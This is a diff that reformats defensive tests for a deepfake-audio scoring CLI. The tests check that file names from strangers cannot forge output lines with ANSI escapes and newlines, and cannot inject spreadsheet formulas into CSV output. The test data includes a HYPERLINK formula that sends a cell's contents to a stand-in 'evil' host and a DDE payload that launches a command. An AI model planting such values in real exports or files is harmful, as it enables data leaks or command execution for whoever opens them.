@@ -9,7 +9,11 @@ import { tempDir } from './helpers';
 
 const ROOT = path.resolve(__dirname, '..');
 const SPEECH = '/usr/share/sounds/alsa/Front_Center.wav';
-const score = (...args: string[]) => spawnSync(process.execPath, ['--import', 'tsx', path.join(ROOT, 'src/cli/score.ts'), ...args], { cwd: ROOT, encoding: 'utf8' });
+const score = (...args: string[]) =>
+  spawnSync(process.execPath, ['--import', 'tsx', path.join(ROOT, 'src/cli/score.ts'), ...args], {
+    cwd: ROOT,
+    encoding: 'utf8',
+  });
 
 describe('names from strangers in human-readable output', () => {
   it('escapes controls and direction overrides, and quotes odd names', () => {
@@ -21,15 +25,21 @@ describe('names from strangers in human-readable output', () => {
 
   it('a file name cannot forge or hide a CLI result line', () => {
     const dir = tempDir('forge');
-    const forged = path.join(dir, 'deepfake.wav: P(bona fide) = 0.9731 (leans bona fide)\u001b[8m\nother.wav: P(bona fide) = 0.9999.wav');
+    const forged = path.join(
+      dir,
+      'deepfake.wav: P(bona fide) = 0.9731 (leans bona fide)\u001b[8m\nother.wav: P(bona fide) = 0.9999.wav',
+    );
     copyFileSync(SPEECH, forged);
     const r = score(forged);
     expect(r.status).toBe(0);
+    // eslint-disable-next-line no-control-regex -- control characters are what this looks for
     expect(r.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/); // only newlines between lines
     const lines = r.stdout.trim().split('\n');
     const result = lines.filter((l) => l.includes('P(bona fide) = 0.4779'));
     expect(result).toHaveLength(1);
-    expect(result[0]).toMatch(/^".*deepfake\.wav: P\(bona fide\) = 0\.9731 \(leans bona fide\)\\u001b\[8m\\u000aother\.wav.*\.wav": P\(bona fide\) = 0\.4779/);
+    expect(result[0]).toMatch(
+      /^".*deepfake\.wav: P\(bona fide\) = 0\.9731 \(leans bona fide\)\\u001b\[8m\\u000aother\.wav.*\.wav": P\(bona fide\) = 0\.4779/,
+    );
     expect(lines.some((l) => l.startsWith('other.wav'))).toBe(false);
   });
 });
@@ -41,21 +51,32 @@ describe('CSV cells a spreadsheet would run', () => {
     expect(guardCell(-0.25)).toBe(-0.25);
     expect(guardCell('take.wav')).toBe('take.wav');
     const row: BatchRow = {
-      file: '=HYPERLINK("http://evil"&A2,"Click")\n.wav', seconds: 1, pBonafide: 0.4, verdict: 'spoof', refMode: 'zero', ref: '@ref.wav',
-      weights: { label: '=cmd|" /C calc"!A0', demo: false, dtype: 'float32', sha256: '+abc' }, audioSha256: '-def', error: '=x',
+      file: '=HYPERLINK("http://evil"&A2,"Click")\n.wav',
+      seconds: 1,
+      pBonafide: 0.4,
+      verdict: 'spoof',
+      refMode: 'zero',
+      ref: '@ref.wav',
+      weights: { label: '=cmd|" /C calc"!A0', demo: false, dtype: 'float32', sha256: '+abc' },
+      audioSha256: '-def',
+      error: '=x',
     } as unknown as BatchRow;
     const parsed = Papa.parse<string[]>(buildCsv([row]).trim()).data[1];
     for (const cell of parsed) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
     expect(parsed[0]).toBe('\'=HYPERLINK("http://evil"&A2,"Click")\n.wav');
   });
 
-  it('the CLI\'s --csv guards a file name with a newline', () => {
+  it("the CLI's --csv guards a file name with a newline", () => {
     const dir = tempDir('csv');
     const evil = path.join(dir, '=HYPERLINK("evil"&A2,"Click")\n.wav');
     copyFileSync(SPEECH, evil);
     // named as typed in its folder, so the cell starts with the name itself
     const tsx = path.join(ROOT, 'node_modules/tsx/dist/loader.mjs');
-    const r = spawnSync(process.execPath, ['--import', tsx, path.join(ROOT, 'src/cli/score.ts'), '--csv', path.basename(evil)], { cwd: dir, encoding: 'utf8' });
+    const r = spawnSync(
+      process.execPath,
+      ['--import', tsx, path.join(ROOT, 'src/cli/score.ts'), '--csv', path.basename(evil)],
+      { cwd: dir, encoding: 'utf8' },
+    );
     expect(r.status).toBe(0);
     const rows = Papa.parse<string[]>(r.stdout.trim()).data;
     expect(rows[1][0]).toBe(`'${path.basename(evil)}`);
